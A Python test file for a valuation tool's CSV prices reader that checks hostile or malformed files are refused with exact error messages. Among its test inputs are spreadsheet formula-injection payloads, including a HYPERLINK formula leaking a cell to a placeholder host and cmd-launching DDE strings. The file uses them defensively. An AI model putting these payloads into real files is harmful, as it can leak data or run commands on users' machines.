"""The prices file for gpuval refresh: every hostile CSV refused with one exact sentence."""

from __future__ import annotations

import datetime as dt
import functools
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpuval.data.dataset import Dataset, load_dataset
from gpuval.data.prices import MAX_BYTES, Added, PriceUpdate, latest_by_entity, read_prices
from gpuval.errors import GpuvalError
from hostile import make_corpus as mc

INJECTION = "could run as a spreadsheet formula; a prices file holds only ids, dates, numbers and "
INJECTION += "currency codes"

#: What read_prices says about each refused corpus item, after "Prices file {path}".
REFUSED = {
    "price_not_number": ", line 2: price must be a number, got 'thirty-five'.",
    "price_nan": ", line 2: price must be a number, got 'nan'.",
    "date_not_iso": ", line 2: date must be a YYYY-MM-DD date, got '05/01/2026'.",
    "date_impossible": ", line 2: date must be a YYYY-MM-DD date, got '2026-02-30'.",
    "shares_not_number": ", line 2: shares must be a number, got '2.39bn'.",
    "unknown_ticker": ", line 3: entity '09999.HK' is neither an entity id nor a ticker in the "
    "dataset (see gpuval entities) or the workbook's peer table.",
    "unknown_entity": ", line 2: entity 'acme' is neither an entity id nor a ticker in the dataset "
    "(see gpuval entities) or the workbook's peer table.",
    "not_a_company": ", line 2: entity 'china_ai_chip_market' is not a listed company, so it has "
    "no price.",
    "negative_price": ", line 2: price must be a positive number, got -35.20.",
    "zero_price": ", line 2: price must be a positive number, got 0.",
    "negative_shares": ", line 2: shares must be a positive number, got -5.",
    "duplicate_dates": ", line 3: biren on 2026-01-05 is priced again (first on line 2).",
    "wrong_currency": ", line 2: currency USD is not biren's listing currency HKD.",
    "unknown_currency": ", line 2: currency must be one of CNY, HKD, USD, got 'EUR'.",
    "missing_column": ", line 1: the header lacks the column currency (expected "
    "entity,date,price,currency[,shares]).",
    "unknown_column": ", line 1: unknown column 'share' in the header (expected "
    "entity,date,price,currency[,shares]).",
    "ragged_row": ", line 2: it has 3 fields where the header has 5.",
    "header_only": ": it has a header but no price rows.",
    "empty": ": it is empty; expected the header entity,date,price,currency[,shares].",
    "gbk_encoding": ' is not UTF-8 text (byte 34, line 2); save it as "CSV UTF-8" and try again.',
    "utf16_encoding": ' is not UTF-8 text (it is UTF-16); save it as "CSV UTF-8" and try again.',
    "nul_bytes": ": it contains NUL characters, so it is not a text CSV file.",
    "injection_hyperlink": ', line 2: entity \'=HYPERLINK("http://example.invalid/?leak="&A1,'
    f"\"biren\")' starts with '=' and {INJECTION}.",
    "injection_plus_cmd": f", line 2: price \"+cmd|' /C calc'!A0\" starts with '+' and "
    f"{INJECTION}.",
    "injection_at_sum": ", line 2: currency \"@SUM(1+1)*cmd|' /C calc'!A0\" starts with '@' and "
    f"{INJECTION}.",
    "injection_minus": f", line 2: shares \"-2+3+cmd|' /C calc'!A0\" starts with '-' and "
    f"{INJECTION}.",
    "injection_tab_equals": f", line 2: date '=1+1' starts with '=' and {INJECTION}.",
    "oversized": f": it is {MAX_BYTES + 50:,} bytes, over the {MAX_BYTES:,}-byte limit.",
}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return mc.write_prices(tmp_path_factory.mktemp("hostile_prices"))


@functools.cache
def _dataset() -> Dataset:
    return load_dataset()


@pytest.fixture
def dataset() -> Dataset:
    return _dataset()


def test_the_corpus_is_complete() -> None:
    assert set(REFUSED) | {"valid"} == set(mc.PRICE_NAMES)


@pytest.mark.parametrize("name", list(REFUSED))
def test_refused_with_one_exact_sentence(
    corpus: dict[str, Path], dataset: Dataset, name: str
) -> None:
    path = corpus[name]
    with pytest.raises(GpuvalError) as caught:
        read_prices(path, dataset)
    assert str(caught.value) == f"Prices file {path}{REFUSED[name]}"
    assert "\n" not in str(caught.value)


def test_valid_file(corpus: dict[str, Path], dataset: Dataset) -> None:
    """BOM, id or ticker, optional shares; the latest date per entity wins."""
    updates = read_prices(corpus["valid"], dataset)
    assert updates == [
        PriceUpdate("biren", dt.date(2026, 1, 5), 35.2, "HKD", None),
        PriceUpdate("biren", dt.date(2026, 1, 6), 36.0, "HKD", 2_390_000_000.0),
        PriceUpdate("cambricon", dt.date(2026, 1, 6), 1380.5, "CNY", None),
    ]
    latest = latest_by_entity(updates)
    assert list(latest) == ["biren", "cambricon"]
    assert latest["biren"].price == 36.0 and latest["biren"].shares == 2_390_000_000.0


def test_latest_by_entity_ignores_order() -> None:
    a = PriceUpdate("biren", dt.date(2026, 1, 7), 1.0, "HKD")
    b = PriceUpdate("biren", dt.date(2026, 1, 5), 2.0, "HKD")
    c = PriceUpdate("biren", dt.date(2026, 1, 7), 3.0, "HKD")
    assert latest_by_entity([a, b]) == {"biren": a}
    assert latest_by_entity([b, a, c]) == {"biren": c}  # equal dates: the later row
    assert latest_by_entity([]) == {}


def test_price_update_is_frozen() -> None:
    update = PriceUpdate("biren", dt.date(2026, 1, 5), 35.2, "HKD")
    with pytest.raises(AttributeError):
        update.price = 1.0  # type: ignore[misc]


def test_layout_tolerance(tmp_path: Path, dataset: Dataset) -> None:
    """Column order, case, spaces, quotes, blank lines, CRLF, a lower-case ticker and no shares
    column are all fine."""
    path = tmp_path / "p.csv"
    path.write_bytes(
        b'Currency , Price,DATE,Entity\r\n\r\n hkd ,"35.2",2026-01-05, 06082.hk\r\n'
        b"CNY,+1e3,2026-01-05,cambricon\r\n"
    )
    assert read_prices(path, dataset) == [
        PriceUpdate("biren", dt.date(2026, 1, 5), 35.2, "HKD"),
        PriceUpdate("cambricon", dt.date(2026, 1, 5), 1000.0, "CNY"),
    ]


ADDED = {
    "newco": Added("09999.HK", "HKD"),
    "oddco": Added("", "RMB"),
    "biren": Added("99999.HK", "USD"),
    "en-flame": Added("", "CNY"),
    "cambricon_h": Added("688256.SH", "CNY"),
}  # fmt: skip (Cambricon's ticker, copied)
"""Companies typed into a workbook's peer table: one a prices file may price, one whose listing
currency is none of the drop-down's, and one that is a dataset company (the dataset's says)."""


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        ("newco,2026-01-06,12,HKD", PriceUpdate("newco", dt.date(2026, 1, 6), 12.0, "HKD")),
        ("09999,2026-01-06,12,hkd", PriceUpdate("newco", dt.date(2026, 1, 6), 12.0, "HKD")),
        ("newco,2026-01-06,12,CNY", "currency CNY is not newco's listing currency HKD."),
        ("oddco,2026-01-06,12,CNY", "oddco's listing currency in the workbook's peer table is "
         "'RMB', not one of CNY, HKD, USD."),
        ("biren,2026-01-06,35.2,HKD", PriceUpdate("biren", dt.date(2026, 1, 6), 35.2, "HKD")),
        ("BIREN,2026-01-06,35.2,HKD", PriceUpdate("biren", dt.date(2026, 1, 6), 35.2, "HKD")),
        ("En-Flame,2026-01-06,9,CNY", PriceUpdate("en-flame", dt.date(2026, 1, 6), 9.0, "CNY")),
        ("99999.HK,2026-01-06,35.2,HKD", "entity '99999.HK' is neither an entity id nor a "
         "ticker in the dataset (see gpuval entities) or the workbook's peer table."),

    ],
)  # fmt: skip
def test_companies_added_to_the_workbook(
    tmp_path: Path, dataset: Dataset, line: str, problem: PriceUpdate | str
) -> None:
    """A company the analyst added to the peer table is priced by its id or ticker, in its
    listing currency as the table gives it; an added row cannot redefine a dataset company."""
    path = tmp_path / "p.csv"
    path.write_text(f"entity,date,price,currency\n{line}\n", encoding="utf-8")
    if isinstance(problem, PriceUpdate):
        assert read_prices(path, dataset, added=ADDED) == [problem]
        return
    with pytest.raises(GpuvalError) as caught:
        read_prices(path, dataset, added=ADDED)
    assert str(caught.value) == f"Prices file {path}, line 2: {problem}"
    with pytest.raises(GpuvalError):  # without the workbook's companies, none is known
        read_prices(path, dataset)


@pytest.mark.parametrize("ticker", ["688256.sh", "688256"])
def test_a_ticker_copied_to_an_added_company_names_both(
    tmp_path: Path, dataset: Dataset, ticker: str
) -> None:
    """Cambricon's row copied under a new id, its ticker left as it was: the ticker names two
    companies, so the file must give the id (it had priced the copy, silently)."""
    path = tmp_path / "p.csv"
    path.write_text(f"entity,date,price,currency\n{ticker},2026-01-06,500,CNY\n")
    assert read_prices(path, dataset)[0].entity == "cambricon"  # the dataset's alone
    with pytest.raises(GpuvalError) as caught:
        read_prices(path, dataset, added=ADDED)
    assert str(caught.value) == (
        f"Prices file {path}, line 2: ticker {ticker!r} is that of cambricon and cambricon_h; "
        "give the id."
    )


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"entity,date,price,currency,currency\n", "line 1: column 'currency' appears twice"),
        (mc.HEADER.encode() + b'biren,"2026-01-05,35.2,HKD,\n', "line 2: it is not valid CSV"),
        (mc.HEADER.encode() + b"biren,2026-01-05,1e999,HKD,\n", "must be a positive number"),
        (mc.HEADER.encode() + b"moore_threads,2026-01-05,100,CNY,1200000000\n", None),
        # a typo or a unit slip would carry into every figure: HKD 1e308 a share, 2.4 shares
        (
            mc.HEADER.encode() + b"biren,2026-01-05,1e308,HKD,\n",
            "line 2: price 1e308 is outside the plausible range 0.0001 to 1e+07.",
        ),
        (
            mc.HEADER.encode() + b"biren,2026-01-05,35.2,HKD,2.4\n",
            "line 2: shares 2.4 is outside the plausible range 1e+06 to 1e+13.",
        ),
        (  # each within its range, together HKD 1e20
            mc.HEADER.encode() + b"biren,2026-01-05,10000000,HKD,10000000000000\n",
            "line 2: price x shares is 1e+20 HKD, over the 1e+14 of any listed company.",
        ),
        (b"=cmd,date,price,currency\n", "line 1: header '=cmd' starts with '='"),
    ],
)
def test_more_shapes(tmp_path: Path, dataset: Dataset, content: bytes, problem: str | None) -> None:
    path = tmp_path / "p.csv"
    path.write_bytes(content)
    if problem is None:
        assert read_prices(path, dataset)[0].shares == 1.2e9
        return
    with pytest.raises(GpuvalError) as caught:
        read_prices(path, dataset)
    assert str(caught.value).startswith(f"Prices file {path}")
    assert problem in str(caught.value)


def test_a_date_after_today_is_refused(tmp_path: Path, dataset: Dataset) -> None:
    path = tmp_path / "p.csv"
    path.write_text(mc.HEADER + "biren,2099-01-06,35.2,HKD,\n", encoding="utf-8")
    with pytest.raises(GpuvalError) as caught:
        read_prices(path, dataset, today=dt.date(2026, 12, 1))
    assert str(caught.value) == (
        f"Prices file {path}, line 2: date 2099-01-06 is after today, 2026-12-01."
    )
    assert read_prices(path, dataset)[0].date == dt.date(2099, 1, 6)  # no today: not checked


@pytest.mark.parametrize("date", ["0001-01-01", "1900-01-01", "1989-12-31"])
def test_a_date_before_any_listing_is_refused(tmp_path: Path, dataset: Dataset, date: str) -> None:
    """0001-01-01 had gone into Peers as serial -693593 (shown as #####), and check then read it
    as no date at all."""
    path = tmp_path / "p.csv"
    path.write_text(mc.HEADER + f"biren,{date},35.2,HKD,\n", encoding="utf-8")
    with pytest.raises(GpuvalError) as caught:
        read_prices(path, dataset, today=dt.date(2026, 12, 1))
    assert str(caught.value) == (
        f"Prices file {path}, line 2: date {date} is before 1990-01-01, too early for a market "
        "price of these companies."
    )


def test_missing_file(tmp_path: Path, dataset: Dataset) -> None:
    with pytest.raises(GpuvalError) as caught:
        read_prices(tmp_path / "nope.csv", dataset)
    assert str(caught.value) == f"Prices file {tmp_path / 'nope.csv'} does not exist."


_fields = st.sampled_from(["entity", "date", "price", "currency", "shares"])
_payload = st.text(
    alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters='\x00\r\n"'),
    max_size=20,
)


@settings(max_examples=150, deadline=None)
@given(field=_fields, lead=st.sampled_from("=+-@"), rest=_payload)
def test_formula_text_never_becomes_a_price(
    tmp_path_factory: pytest.TempPathFactory, field: str, lead: str, rest: str
) -> None:
    """Whatever follows a leading = + - @ in any field, the row is never accepted unless the
    field is a plain number (and then only if it is a positive one)."""
    row = {
        "entity": "biren",
        "date": "2026-01-05",
        "price": "35.2",
        "currency": "HKD",
        "shares": "",
    }
    row[field] = lead + rest
    path = tmp_path_factory.mktemp("p") / "p.csv"
    line = ",".join(f'"{row[k]}"' for k in ("entity", "date", "price", "currency", "shares"))
    path.write_text(mc.HEADER + line + "\n", encoding="utf-8")
    try:
        updates = read_prices(path, _dataset())
    except GpuvalError as exc:
        assert "\n" not in str(exc)
        return
    value = (lead + rest).strip()
    assert field in ("price", "shares") and lead == "+" and float(value) > 0, (field, value)
    assert updates[0].entity == "biren"


@pytest.mark.parametrize(
    ("given", "entity", "price", "currency"),
    [
        ("688256.SH", "cambricon", "500", "CNY"),
        ("688256.sh", "cambricon", "500", "CNY"),
        ("688256", "cambricon", "500", "CNY"),
        ("688795.SH", "moore_threads", "600", "CNY"),
        ("688802", "metax", "700", "CNY"),
        ("06082.HK", "biren", "35.2", "HKD"),
        ("06082", "biren", "35.2", "HKD"),
        ("NVDA", "nvidia", "201.03", "USD"),
        ("nvda", "nvidia", "201.03", "USD"),
    ],
)
def test_ticker_with_or_without_suffix_in_any_case(
    tmp_path: Path, dataset: Dataset, given: str, entity: str, price: str, currency: str
) -> None:
    path = tmp_path / "p.csv"
    path.write_text(f"entity,date,price,currency\n{given},2026-01-05,{price},{currency}\n")
    assert read_prices(path, dataset) == [
        PriceUpdate(entity, dt.date(2026, 1, 5), float(price), currency)
    ]


def test_a_bare_code_two_entities_share_is_not_guessed(dataset: Dataset) -> None:
    """If 600000.SH and 600000.HK were both tickers, "600000" would name neither."""
    import dataclasses

    from gpuval.data.prices import ticker_map

    entities = dict(dataset.entities)
    entities["biren"] = entities["biren"].model_copy(update={"ticker": "688256.HK"})
    tickers = ticker_map(dataclasses.replace(dataset, entities=entities))
    assert "688256" not in tickers
    assert tickers["688256.HK"] == "biren"
    assert tickers["688256.SH"] == "cambricon"
    assert tickers["NVDA"] == "nvidia"
